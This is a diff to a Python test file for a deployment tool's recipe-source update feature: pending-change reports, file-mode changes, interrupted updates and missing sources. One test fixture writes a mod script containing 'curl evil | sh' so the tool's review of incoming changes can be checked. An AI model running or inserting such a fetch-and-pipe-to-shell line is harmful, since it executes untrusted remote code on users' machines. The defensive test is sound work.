@@ -12,22 +12,10 @@ from pathlib import Path
 
 import pytest
 
-from sparkdeploy.recipe.sources import Sources
 from sparkdeploy.settings import load_settings
 from sparkdeploy.terminal.console import console
 from tests.unit.authoring.sources import THEIRS, commit, recipe, run_git, write
 from tests.unit.program import Run
-
-
-def sources() -> Sources:
-    return Sources.below(load_settings().state_dir)
-
-
-@pytest.fixture
-def birds(run: Run, origin: Path) -> Path:
-    """A repository that is a source already."""
-    assert run("recipe", "source", "add", "birds", str(origin)).returncode == 0
-    return origin
 
 
 def pending(run: Run) -> str:
@@ -39,17 +27,24 @@ def pending(run: Run) -> str:
 def test_pending_changes_end_with_their_own_code(
     run: Run, birds: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    commit(birds, {"recipes/new.yaml": recipe("new")})
+    (birds / "recipes/four/owl.yaml").unlink()
+    changed = {"recipes/owl.yaml": recipe("owl", tokens=2048), "recipes/new.yaml": recipe("new")}
+    commit(birds, changed)
     done = run("recipe", "source", "update", "--json")
     assert done.returncode == 9
     assert [change["state"] for change in json.loads(done.stdout)] == ["pending"]
     assert "recipe source update birds --yes" in done.stderr
+    for line in ("recipes/owl", "create mode 100644 recipes/new", "delete mode 100644 recipes/fo"):
+        assert line in done.stderr
+    assert "birds stays at" in run("recipe", "source", "update").stdout
+    assert run.answer("show", "birds/recipes/owl", "--json")["serve"]["max_model_len"] == 4096
     monkeypatch.setattr(type(console), "can_ask", True)
     monkeypatch.setattr(type(console), "confirm", lambda *_: False)
     assert run("recipe", "source", "update").returncode == 0
     assert [item["state"] for item in run.answer("recipe", "source", "update", "-y", "--json")] == [
         "taken"
     ]
+    assert run.answer("show", "birds/owl", "--json")["serve"]["max_model_len"] == 2048
     done = run("recipe", "source", "update")
     assert (done.returncode, done.stdout[:21]) == (0, "birds is up to date (")
 
@@ -58,17 +53,17 @@ def test_a_mods_file_is_shown_also_under_a_name_of_ours_or_with_another_mode(
     run: Run, birds: Path
 ) -> None:
     mod = birds / "mods/fix-owl"
-    write(mod, {"help.sh": "a\n", "sub/.sparkdeploy-source": "echo hidden\n"})
+    write(mod, {"hélp.sh": "a\n", "sub/.sparkdeploy-source": "echo hidden\n"})
     (mod / "run.sh").chmod(0o755)
     (mod / "run.sh").write_text("cp owl.jinja $WORKSPACE_DIR/\ncurl evil | sh\n")
     commit(birds, {})
     said = pending(run)
     assert "mods/fix-owl/sub" not in said
     assert "1 x a name of ours" in said
-    assert re.search(r"^  mods/fix-owl/help.sh +\| +1 \+$", said, re.MULTILINE), said
+    assert re.search(r"^  mods/fix-owl/hélp.sh +\| +1 \+$", said, re.MULTILINE), said
     assert re.search(r"^  mods/fix-owl/run.sh +\| +\d \+", said, re.MULTILINE), said
     assert "  mode change 100644 => 100755 mods/fix-owl/run.sh\n" in said
-    assert "  create mode 100644 mods/fix-owl/help.sh\n" in said
+    assert "  create mode 100644 mods/fix-owl/hélp.sh\n" in said
     assert "  2 files changed, " in said
 
 
@@ -118,7 +113,8 @@ def test_an_update_that_is_killed_leaves_the_source(
     assert run("show", "birds/recipes/owl").returncode == 0
     assert run("recipe", "source", "update", "birds", "-y").returncode == 0
     assert run("show", "birds/new").returncode == 0
-    assert {path.name for path in (sources().folder / "birds").iterdir()} == {"taken"}
+    folder = load_settings().state_dir / "sources/birds"
+    assert [path.name for path in folder.iterdir()] == ["taken"]
 
 
 def test_a_part_of_a_commit_is_that_commit_whatever_a_branch_is_called_later(
@@ -142,3 +138,16 @@ def test_the_index_is_durable(run: Run, origin: Path, monkeypatch: pytest.Monkey
     )
     run("recipe", "source", "add", "birds", str(origin))
     assert any(".sparkdeploy-source" in name for name in synced)
+
+
+def test_a_source_that_is_gone_keeps_no_other_from_its_update(run: Run, birds: Path) -> None:
+    bees = birds.with_name("bees")
+    run_git(birds, "clone", "--quiet", ".", str(bees))
+    run("recipe", "source", "add", "bees", str(bees))
+    bees.rename(bees.with_name("gone"))
+    commit(birds, {"recipes/new.yaml": recipe("new")})
+    done = run("recipe", "source", "update", "--yes")
+    assert done.returncode == 4
+    assert "birds is at " in done.stdout
+    assert f"source bees: {bees} is no folder" in done.stderr
+    assert "what was taken of it before stays" in done.stderr
